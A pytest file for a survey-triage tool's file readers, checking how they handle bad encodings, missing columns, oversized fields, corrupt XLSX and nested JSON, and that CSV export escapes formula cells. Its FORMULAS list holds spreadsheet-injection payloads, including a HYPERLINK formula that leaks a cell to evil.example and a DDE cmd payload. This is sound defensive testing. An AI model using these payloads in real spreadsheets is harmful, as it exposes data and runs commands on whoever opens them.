"""Malformed survey files: wrong encodings, missing columns, huge fields, empty, binary, truncated, formulas.

The rule under test: a file is either refused as a whole with a clear `InvalidInput` (nothing in it is
readable), or every good row is kept and every bad row is reported with its row number. Never another error.
"""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile

import pytest
from openpyxl import Workbook

from triage.errors import InvalidInput
from triage.ingest.readers import read_file
from triage.ingest.validate import prepare
from triage.report.render import SafeCsvWriter
from triage.types import NewComment, RowError

pytestmark = pytest.mark.store_free

KEY = b"k" * 32
ROWS = [("Café took three weeks to answer", "IT"), ("Payroll paid me twice — nobody replied", "Payroll")]


def _read(data: bytes, fmt: str) -> tuple[list[NewComment], list[RowError]]:
    return prepare(read_file(data, fmt), KEY)


def _csv_text(delimiter: str = ",") -> str:
    return "\n".join([f"text{delimiter}provider", *(f"{t}{delimiter}{p}" for t, p in ROWS)]) + "\n"


def _xlsx(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        _csv_text().encode("utf-8"),
        _csv_text().encode("utf-8-sig"),
        _csv_text().encode("cp1252"),
        _csv_text().replace("—", "-").encode("latin-1"),
        _csv_text("\t").encode("utf-16"),  # Excel's "Unicode text": UTF-16 LE with a BOM, tab-separated
        _csv_text().encode("utf-16-be"),  # UTF-16 without a BOM
        _csv_text().encode("utf-32"),
    ],
    ids=["utf8", "utf8-bom", "cp1252", "latin-1", "utf16-bom-tabs", "utf16be-no-bom", "utf32-bom"],
)
def test_csv_in_any_common_encoding_keeps_every_row(data: bytes) -> None:
    rows = list(read_file(data, "csv"))
    assert [(n, f) for n, f in rows] == [(2, {"text": ROWS[0][0], "provider": "IT"}), (3, rows[1][1])]
    assert isinstance(rows[1][1], dict) and rows[1][1]["text"].replace("-", "—") == ROWS[1][0]
    good, bad = _read(data, "csv")
    assert bad == [] and [c.provider for c in good] == ["IT", "Payroll"]


def test_jsonl_in_latin1_and_utf16_is_read() -> None:
    lines = "\n".join(json.dumps({"text": t, "provider": p}, ensure_ascii=False) for t, p in ROWS[:1])
    for encoding in ("latin-1", "utf-16"):
        assert list(read_file(lines.encode(encoding), "jsonl")) == [(1, {"text": ROWS[0][0], "provider": "IT"})]


@pytest.mark.parametrize(
    ("data", "fmt", "field"),
    [
        (b"", "csv", "file"),
        (b"", "jsonl", "file"),
        (b"", "xlsx", "file"),
        (b"  \n\n", "csv", "file"),
        (b"text,provider\n", "csv", "file"),
        (b"text,provider\n,,\n , \n", "csv", "file"),
        (_xlsx([["text", "provider"]]), "xlsx", "file"),
        (b"provider,rating\nIT,3\n", "csv", "text"),
        ("Kommentar;Anbieter\nlangsam;IT\n".encode("cp1252"), "csv", "text"),
        (_xlsx([["comment", "provider"], ["slow", "IT"]]), "xlsx", "text"),
        (random.Random(1).randbytes(5000), "csv", "file"),
        (random.Random(2).randbytes(5000), "xlsx", "file"),
        (b"PK\x03\x04" + random.Random(3).randbytes(5000), "xlsx", "file"),
        (_xlsx([["text"], ["a"]])[:900], "xlsx", "file"),
        (b"[" * 100_000, "jsonl", "file"),
    ],
    ids=[
        "empty-csv",
        "empty-jsonl",
        "empty-xlsx",
        "blank-csv",
        "header-only-csv",
        "blank-rows-only-csv",
        "header-only-xlsx",
        "no-text-column-csv",
        "no-text-column-german",
        "no-text-column-xlsx",
        "binary-garbage-csv",
        "binary-garbage-xlsx",
        "zip-magic-then-garbage",
        "truncated-xlsx",
        "json-nested-too-deep",
    ],
)
def test_a_file_with_nothing_readable_is_refused_clearly(data: bytes, fmt: str, field: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        _read(data, fmt)
    assert caught.value.field == field
    assert caught.value.detail


def test_missing_text_in_jsonl_rows_is_reported_per_row() -> None:
    lines = [json.dumps({"comment": "no text key"}), json.dumps({"text": "kept", "provider": "IT"}), "{}"]
    good, bad = _read("\n".join(lines).encode(), "jsonl")
    assert [c.text for c in good] == ["kept"]
    assert [(b.row, b.reason) for b in bad] == [(1, "text: missing or empty"), (3, "text: missing or empty")]


def test_huge_csv_field_is_one_bad_row_and_its_neighbours_are_kept() -> None:
    # Over the csv module's default field limit (131072), with newlines inside the quotes.
    huge = ("very long line of complaint\n" * 8000).strip()
    data = f'text,provider\nfirst,IT\n"{huge}",HR\nlast,Payroll\n'.encode()
    good, bad = _read(data, "csv")
    assert [(c.text, c.provider) for c in good] == [("first", "IT"), ("last", "Payroll")]
    assert len(bad) == 1 and bad[0].reason.startswith("text:") and "20000" in bad[0].reason
    assert bad[0].row == 3 + huge.count("\n")  # the line the record ends on, as the csv module counts


@pytest.mark.parametrize("fmt", ["jsonl", "xlsx"])
def test_huge_field_in_jsonl_and_xlsx_is_one_bad_row(fmt: str) -> None:
    huge = "x" * 25_000
    rows = [("first", "IT"), (huge, "HR"), ("last", "Payroll")]
    if fmt == "jsonl":
        data = "\n".join(json.dumps({"text": t, "provider": p}) for t, p in rows).encode()
    else:
        data = _xlsx([["text", "provider"], *[[t, p] for t, p in rows]])
    good, bad = _read(data, fmt)
    assert [c.text for c in good] == ["first", "last"]
    assert [b.row for b in bad] == [2 if fmt == "jsonl" else 3]  # an XLSX header is row 1


def test_deeply_nested_json_line_is_one_bad_row() -> None:
    data = b'{"text": "kept"}\n' + b"[" * 100_000 + b'\n{"text": "also kept"}'
    good, bad = _read(data, "jsonl")
    assert [c.text for c in good] == ["kept", "also kept"]
    assert [(b.row, b.reason) for b in bad] == [(2, "invalid JSON: nested too deeply")]


def test_control_characters_and_lone_surrogates_are_cleaned_not_fatal() -> None:
    first = json.dumps({"text": "tab\there\x00 nul \x1b[31m red", "provider": "I\x07T"})
    lines = [first, '{"text": "half \\ud800 pair"}']
    good, bad = _read("\n".join(lines).encode(), "jsonl")
    assert bad == []
    assert good[0].text == "tab\there nul [31m red" and good[0].provider == "IT"
    assert good[1].text == "half ? pair"
    good[1].text.encode("utf-8")  # storable


def test_xlsx_damaged_inside_a_sheet_keeps_the_rows_before_the_damage() -> None:
    book = _xlsx([["text", "provider"], *[[f"comment number {i}", "IT"] for i in range(200)]])
    src = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = content[: len(content) // 2]
            dst.writestr(info, content)
    good, bad = _read(out.getvalue(), "xlsx")
    assert 50 < len(good) < 200
    assert [c.text for c in good] == [f"comment number {i}" for i in range(len(good))]
    assert len(bad) == 1 and "damaged" in bad[0].reason and bad[0].row == len(good) + 2


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
]


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
def test_formula_cells_are_kept_as_text_not_lost(fmt: str) -> None:
    rows = [[f, "IT"] for f in FORMULAS]
    if fmt == "csv":
        buffer = io.StringIO()
        csv.writer(buffer).writerows([["text", "provider"], *rows])
        data = buffer.getvalue().encode()
    elif fmt == "jsonl":
        data = "\n".join(json.dumps({"text": t, "provider": p}) for t, p in rows).encode()
    else:
        data = _xlsx([["text", "provider"], *rows])  # openpyxl stores a text starting with '=' as a formula
    rows = list(read_file(data, fmt))
    # Kept as written; escaping is the CSV exporter's job (tests/unit/report, tests/api/test_limits.py).
    assert [f["text"] for _, f in rows if isinstance(f, dict)] == FORMULAS
    good, bad = _read(data, fmt)
    assert bad == [] and len(good) == len(FORMULAS)


@pytest.mark.parametrize("formula", [*FORMULAS, "\t=1+1", " =1+1", "\r=1", "\n@x"])
def test_csv_export_neutralises_every_formula_start(formula: str) -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow([formula, -0.5, 3, "plain - text", "a=b"])
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ["'" + formula, "-0.5", "3", "plain - text", "a=b"]
